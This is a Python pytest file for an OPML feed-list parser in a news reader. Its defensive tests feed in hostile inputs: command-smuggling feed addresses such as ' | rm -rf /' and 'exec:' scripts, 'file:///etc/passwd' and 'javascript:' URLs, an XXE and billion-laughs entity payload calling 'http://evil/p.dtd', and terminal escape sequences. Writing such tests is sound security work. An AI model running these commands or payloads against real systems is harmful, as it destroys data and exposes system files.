"""Lists of feeds: what counts, what is refused and named, what goes out and comes back."""

from datetime import UTC, datetime

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from newscli.errors import ParseError
from newscli.models.feed import Feed, FeedKind
from newscli.parse.opml import MAX_BYTES, parse_opml, write_opml
from newscli.text import SafeLine, clean_line, is_clean
from newscli.urls import WebUrl, require_web_url

NOW = datetime(2026, 11, 23, tzinfo=UTC)


def listing(outlines: str, head: str = "") -> bytes:
    return f'<?xml version="1.0"?><opml version="2.0"><head>{head}</head><body>{outlines}</body></opml>'.encode()


def feed(url: str, *, title: str = "A", tags: tuple[str, ...] = (), kind: FeedKind = "feed", site: WebUrl | None = None) -> Feed:
    return Feed(
        id=1, slug=clean_line("a"), url=require_web_url(url), title=clean_line(title), site_url=site, kind=kind, language=None,
        tags=tuple(map(clean_line, tags)), unread=0, total=0, added_at=NOW, fetched_at=None, attempted_at=None,
        next_fetch_at=None, health="never", health_since=None, error=None, failures=0, etag=None, last_modified=None,
        body_hash=None, latency=None,
    )  # fmt: skip


def test_folders_are_tags_in_their_order() -> None:
    inner = '<outline text="K" xmlUrl="http://k/f" category="daily,/a/b"/>'
    outlines = f'<outline text="News"><outline text="Asia">{inner}</outline></outline>'

    (found,) = parse_opml(listing(outlines + '<outline text="top" xmlUrl="http://t/f"/>')).outlines[:1]

    assert found.categories == (("News", "Asia"), ("daily",), ("a", "b"))
    assert found.tags == ("News", "Asia", "daily", "a", "b")


def test_an_end_of_a_folder_ends_its_tag() -> None:
    outlines = '<outline text="News"><outline xmlUrl="http://k/f"></outline></outline><outline xmlUrl="http://t/f"/>'

    assert [outline.tags for outline in parse_opml(listing(outlines)).outlines] == [("News",), ()]


def test_the_same_address_in_two_folders_is_one_feed_with_two_tags() -> None:
    outlines = "".join(f'<outline text="{tag}"><outline xmlUrl="http://k/f"/></outline>' for tag in ("a", "b"))

    (found,) = parse_opml(listing(outlines)).outlines

    assert found.tags == ("a", "b")


@pytest.mark.parametrize(
    "address",
    [
        "|~/bin/feed.sh",
        " | rm -rf /",
        "exec:~/x.sh",
        "EXEC:x",
        "filter:~/f.pl:https://example.com/feed",
        'query:Unread:unread = "yes"',
    ],
)
def test_addresses_that_other_readers_execute_are_refused_by_name(address: str) -> None:
    result = parse_opml(
        listing(f"<outline text='Evil' xmlUrl='{address}'/><outline text='Good' xmlUrl='https://example.com/f'/>")
    )

    assert [outline.title for outline in result.outlines] == ["Good"]
    (warning,) = result.warnings
    assert warning.startswith("Evil: it would run a command, left out: ")


def test_a_filter_command_beside_a_feed_is_left_out_and_named() -> None:
    result = parse_opml(listing('<outline text="Fire" xmlUrl="https://example.com/f" filtercmd="~/.bin/keep.pl"/>'))

    assert [outline.xml_url for outline in result.outlines] == ["https://example.com/f"]
    assert result.warnings == ("Fire: its filter command is left out",)


@pytest.mark.parametrize(
    "address", ["file:///etc/passwd", "javascript:alert(1)", "ftp://example.com/f", "gopher://x", "/feed.xml", "http://"]
)
def test_addresses_that_are_not_of_the_web_are_named(address: str) -> None:
    result = parse_opml(listing(f'<outline text="Odd" xmlUrl="{address}"/>'))

    assert result.outlines == ()
    assert result.warnings == (f"Odd: not an http or https address, left out: {address}",)


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("feed://example.com/f", "http://example.com/f"),
        ("feed:https://example.com/f", "https://example.com/f"),
        ("feed://https://example.com/f", "https://example.com/f"),
    ],
)
def test_the_feed_scheme_means_http(written: str, meant: str) -> None:
    assert [outline.xml_url for outline in parse_opml(listing(f'<outline xmlUrl="{written}"/>')).outlines] == [meant]


def test_no_entity_is_expanded() -> None:
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12))
    document = (
        f'<!DOCTYPE opml [<!ENTITY l0 "lol"><!ENTITY xxe SYSTEM "file:///etc/passwd">{laughs}'
        '<!ENTITY % p SYSTEM "http://evil/p.dtd"> %p;]>'
        '<opml version="2.0"><body><outline text="a &xxe; b &l11;" xmlUrl="http://k/f"/></body></opml>'
    )

    (found,) = parse_opml(document.encode()).outlines

    assert found.title == "a &xxe; b &l11;"


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be", "euc-kr", "windows-1252"])
def test_encodings(encoding: str) -> None:
    title = "Café" if encoding == "windows-1252" else "한국 뉴스"
    declared = "utf-16" if encoding.startswith("utf-16") else "utf-8" if encoding.startswith("utf") else encoding
    document = f'<?xml version="1.0" encoding="{declared}"?><opml version="1.0"><body><outline text="{title}" xmlUrl="http://k/f"/></body></opml>'

    assert [outline.title for outline in parse_opml(document.encode(encoding)).outlines] == [title]


@pytest.mark.parametrize("declared", ["utf-8", "utf-16", "punycode", "zlib", "iso-8859-12", "rot13", "no-such"])
def test_a_wrong_declaration_loses_no_feed(declared: str) -> None:
    document = f'<?xml version="1.0" encoding="{declared}"?><opml><body><outline text="Café" xmlUrl="http://k/f"/></body></opml>'

    assert [outline.title for outline in parse_opml(document.encode("windows-1252")).outlines] == ["Café"]


def test_damage_keeps_the_others_and_is_named() -> None:
    outlines = (
        '<outline text="One" xmlUrl="http://1.example/f"/>\n'
        '<outline text="Two" description="see <a href="http://x" target="_blank">this</a>" "quoted""'
        ' xmlUrl="http://2.example/f?a=1&b=2" />\n'
        '<outline text="Three" xmlUrl="http://3.example/f'
    )

    result = parse_opml(f'<opml version="2.0"><body>{outlines}'.encode())

    assert [outline.xml_url for outline in result.outlines] == [
        "http://1.example/f",
        "http://2.example/f?a=1&b=2",
        "http://3.example/f",
    ]
    assert [warning.partition(":")[0] for warning in result.warnings] == ["Two", "Three", "the list breaks off"]


def test_no_control_character_of_a_list_survives() -> None:
    result = parse_opml(
        listing(
            '<outline text="&#27;[31mred&#x202E; \x1b]0;x\x07" xmlUrl="http://k/&#27;[2J"/>'
            '<outline text="\x1b[2J" xmlUrl="|\x1b[2J"/>'
        )
    )

    assert [outline.title for outline in result.outlines] == ["red"]
    assert all(is_clean(line) for line in (*result.warnings, *(outline.xml_url for outline in result.outlines)))


@pytest.mark.parametrize(
    ("data", "found"),
    [
        (b"", "an empty answer"), (b" \n", "an empty answer"), (b"hello", "plain text"), (b"\x89PNG\r\n\x1a\n\0", "an image"),
        (b"<!DOCTYPE html><html><body></body></html>x", "an HTML page"),
        (b"<rss><channel><title>x</title></channel></rss>", "a feed"),
        (b'<?xml version="1.0"?><plist><dict/></plist>', "an XML document that is no feed"),
        (b'<rdf:RDF><channel rdf:about="http://x/"/><item rdf:about="http://x/1"/></rdf:RDF>', "a feed"),
    ],
)  # fmt: skip
def test_what_is_no_list_is_named(data: bytes, found: str) -> None:
    with pytest.raises(ParseError) as caught:
        parse_opml(data)

    assert caught.value.found == found


@pytest.mark.parametrize(
    "data", [b"<opml", b"<opml>", b"<opml><head><title>x</ti", b"<opml><body><outline text='a'>", b"<opml><body>"]
)
def test_a_list_that_breaks_off_before_its_first_feed_is_refused(data: bytes) -> None:
    with pytest.raises(ParseError) as caught:
        parse_opml(data)

    assert caught.value.found == "the beginning of a list of feeds"
    assert caught.value.hint


def test_a_list_that_breaks_off_later_keeps_its_feeds_and_says_so() -> None:
    result = parse_opml(b'<opml><body><outline xmlUrl="http://1/f"/></body>')

    assert len(result.outlines) == 1
    assert result.warnings == ("the list breaks off: its end is missing, and feeds may be",)
    assert parse_opml(b"<opml/>").warnings == ()


def test_a_list_without_feeds_is_a_list() -> None:
    assert parse_opml(listing("", head="<title><![CDATA[Mine & yours]]></title>")).title == "Mine & yours"


@pytest.mark.parametrize(
    "date", ["yesterday", "Mon, 23 Nov 99999999999999999999 00:00:00 GMT", "Mon, 23 Nov 2026 00:00:00 +99999999999999999999"]
)
def test_a_date_that_is_none_is_named(date: str) -> None:
    result = parse_opml(listing('<outline xmlUrl="http://a/f"/>', head=f"<dateCreated>{date}</dateCreated>"))

    assert [outline.xml_url for outline in result.outlines] == ["http://a/f"]
    assert result.warnings == (f"dateCreated of the list is not a date: {date}",)


def test_too_many_bytes_are_refused() -> None:
    with pytest.raises(ParseError):
        parse_opml(b" " * (MAX_BYTES + 1))


@pytest.mark.parametrize(
    "body",
    [
        '<outline text="a">' * 100_000 + '<outline xmlUrl="http://k/f"/>', '<outline text="' * 60_000,
        "<outline " + 'a="1" ' * 100_000,
        "<!--" * 200_000, "<!DOCTYPE [" * 100_000, "<outline a='" + '" ' * 400_000, '<outline text="' + "&" * 800_000,
        "<outline" + " " * 800_000, "<" * 800_000, "</outline>" * 80_000, "<![CDATA[" * 90_000,
    ],
)  # fmt: skip
def test_depth_and_repetition_do_no_harm(body: str) -> None:
    """Each of these takes quadratic time, or a stack for each level, in a reader that is careless about one of them."""
    result = parse_opml(f'<opml><body><outline xmlUrl="http://a/f"/>{body}'.encode())

    assert 1 <= len(result.outlines) <= 2
    assert len(result.warnings) <= 1_001


def test_nested_foaf_does_no_harm() -> None:
    result = parse_opml(b"<rdf:RDF>" + b"<foaf:Group><foaf:name>g</foaf:name>" * 50_000)

    assert result.outlines == ()


def test_feeds_go_out_and_come_back() -> None:
    feeds = [
        feed("https://a.example/f?x=1&y=2", title='"A" & <b>', tags=("news",), site=require_web_url("https://a.example/")),
        feed("https://b.example/f", title="한국", tags=("news", "asia")),
        feed("https://c.example/f", tags=("a/b", "c, d", "asia")),
        feed("https://d.example/news/", kind="page", tags=("asia",)),
        feed("https://user:pw@e.example/f"),
    ]

    result = parse_opml(write_opml(feeds, now=NOW))

    assert result.warnings == ()
    assert result.format == "opml2"
    assert result.head["dateCreated"] == "Mon, 23 Nov 2026 00:00:00 GMT"  # type: ignore[index]
    back = {outline.xml_url: outline for outline in result.outlines}
    assert len(back) == len(feeds)
    for one in feeds:
        outline = back[one.url]
        assert (outline.title, set(outline.tags), outline.kind) == (one.title, set(one.tags), one.kind)
    assert back[feeds[0].url].site_url == "https://a.example/"


def test_tags_keep_their_order() -> None:
    result = parse_opml(write_opml([feed("https://b.example/f", tags=("z", "a", "m"))], now=NOW))

    assert result.outlines[0].tags == ("z", "a", "m")


names = st.text(min_size=1, max_size=20).map(clean_line).filter(bool)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.tuples(names, st.lists(names, max_size=4, unique=True)), max_size=6))
def test_any_titles_and_tags_come_back(rows: list[tuple[SafeLine, list[SafeLine]]]) -> None:
    feeds = [feed(f"https://example.com/{number}", title=title, tags=tuple(tags)) for number, (title, tags) in enumerate(rows)]

    back = {outline.xml_url: outline for outline in parse_opml(write_opml(feeds, now=NOW)).outlines}

    assert {one.url: (one.title, set(one.tags)) for one in feeds} == {
        url: (item.title, set(item.tags)) for url, item in back.items()
    }


pieces = st.sampled_from(
    ["<opml>", "<outline ", 'text="', "xmlUrl='", "http://a/", "|x", '"', "'", "/>", ">", "<", "</outline>", "<!--", "-->",
     "<![CDATA[", "]]>", "<!DOCTYPE [", "]>", "&amp;", "&x;", "&#0;", "&#xD800;", "<head><title>", "<rdf:RDF>", "<foaf:Group>",
     "</foaf:Group>", "<foaf:name>", "<rss:channel rdf:about='http://c/'/>", "\0", "\x1b[2J", "\u202e", " ", "category=',/,'"]
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(st.one_of(st.binary(max_size=300), st.lists(pieces, max_size=40).map(lambda parts: "".join(parts).encode())))
def test_any_bytes_are_a_list_or_a_parse_error(data: bytes) -> None:
    try:
        result = parse_opml(data)
    except ParseError as error:
        assert is_clean(error.message)  # noqa: PT017 - both outcomes are fine
        return
    for outline in result.outlines:
        assert outline.xml_url.startswith(("http://", "https://"))
        assert all(is_clean(line) for line in (outline.xml_url, outline.title or "", *outline.tags))
    assert all(map(is_clean, result.warnings))
